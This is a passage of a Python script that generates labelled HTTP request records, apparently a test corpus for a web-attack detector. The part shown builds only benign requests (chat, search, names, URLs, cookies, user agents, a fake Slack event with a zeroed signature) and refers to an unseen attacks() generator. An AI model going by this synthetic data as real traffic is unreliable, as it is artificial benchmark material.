    event = {"type": "message" if n % 3 else "app_mention", "user": f"U0{_tok(8).upper()}",
             "text": slack_escape(text), "ts": f"{epoch}.{n:06d}", "channel": "C0123456789",
             "event_ts": f"{epoch}.{n:06d}"}
    body = {"token": "verification-token", "team_id": "T061EG9R6", "api_app_id": "A0PNCHHK2", "event": event,
            "type": "event_callback", "event_id": f"Ev{n:010d}", "event_time": epoch}
    return _req("POST", "/slack/events", json.dumps(body, ensure_ascii=False),
                {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)", "Accept": "*/*",
                 "Content-Type": "application/json", "X-Slack-Request-Timestamp": str(epoch),
                 "X-Slack-Signature": "v0=" + "0" * 64})


def benign() -> Iterator[dict[str, Any]]:
    n = 0

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}

    for k, text in enumerate(CHAT):
        yield rec("slack", "json", _slack_message(text, n + 1, k))
        yield rec("bio", "json", real_request("json", text, k))
    for k, text in enumerate(BIOS):
        yield rec("bio", "json", real_request("json", text, k + 1))
        yield rec("bio", "multipart-field", real_request("multipart-field", text, k))
    for k, term in enumerate(SEARCHES):
        yield rec("search", "query", real_request("query", term, k))
        yield rec("search", "form", real_request("form", term, k))
        if k % 2 == 0:
            yield rec("search", "header:Referer", real_request("header:Referer", term, k))
    for k, text in enumerate(PROSE):
        yield rec("prose", "form", real_request("form", text, k))
        yield rec("prose", "json", real_request("json-u" if k % 3 == 0 else "json", text, k))
        yield rec("prose", "xml", real_request("xml", text, k))
    for k, url in enumerate(PUBLIC_URLS):
        doc = {"name": "Dana Whitfield", "website": url, "links": [url, "https://example.org/"]}
        yield rec("url", "json", _req("POST", "/api/users", json.dumps(doc), _browser(k, {
            "Content-Type": "application/json", "Accept": "application/json"})))
        yield rec("url", "query", real_request("query", url, k))
        yield rec("url", "header:Referer", _req("GET", "/api/users?page=1", "", _browser(k, {"Referer": url})))
    for k, (name, title, dept) in enumerate(NAMES):
        doc = {"name": name, "title": title, "department": dept, "email": f"user{k}@example.org",
               "address": ADDRESSES[k % len(ADDRESSES)]}
        uri, method = ("/api/users/42", "PATCH") if k % 3 == 0 else ("/api/users", "POST")
        yield rec("name", "json", _req(method, uri, json.dumps(doc, ensure_ascii=False), _browser(k, {
            "Content-Type": "application/json", "Accept": "application/json"})))
        yield rec("name", "form", real_request("form", name, k))
        yield rec("name", "path", real_request("path", name, k))
    for k, addr in enumerate(ADDRESSES):
        yield rec("address", "form", real_request("form", addr, k))
        yield rec("address", "xml", real_request("xml", addr, k))
    for k, fn in enumerate(UPLOAD_NAMES):
        yield rec("upload", "multipart-filename", real_request("multipart-filename", fn, k))
        if k % 3 == 0:
            yield rec("upload", "header:X-File-Name", real_request("header:X-File-Name", fn, k))
    for k, ref in enumerate(REFERERS):
        for j in range(2):
            yield rec("referer", "header:Referer", _req("GET", f"/api/users?page={j + 1}", "",
                                                        _browser(k + j, {"Referer": ref})))
    for k, ua in enumerate(BROWSERS + ["Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
                                       "okhttp/4.12.0", "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A)",
                                       "Acme-iOS/5.4.1 (iPhone15,2; iOS 17.5; Scale/3.00)",
                                       "PostmanRuntime/7.39.0"]):
        for j in range(2):
            yield rec("ua", "header:User-Agent", _req("GET", f"/api/users?page={j + 1}", "",
                                                      _browser(k, {"User-Agent": ua})))
    for k, cookie in enumerate(COOKIES):
        for j in range(2):
            yield rec("cookie", "cookie", _req("GET", f"/api/users?page={j + 1}", "",
                                               _browser(k + j, {"Accept": "application/json"}, cookie=cookie)))
    for k, path in enumerate(PATHS):
        yield rec("path", "path", _req("GET", path, "", _browser(k, {"Accept": "application/json"})))
    for k, bio in enumerate(XML_BIOS):
        yield rec("xml", "xml", real_request("xml", bio, k))
        yield rec("xml", "json-u", real_request("json-u", bio, k))


if __name__ == "__main__":
    print_records(attacks(), benign())
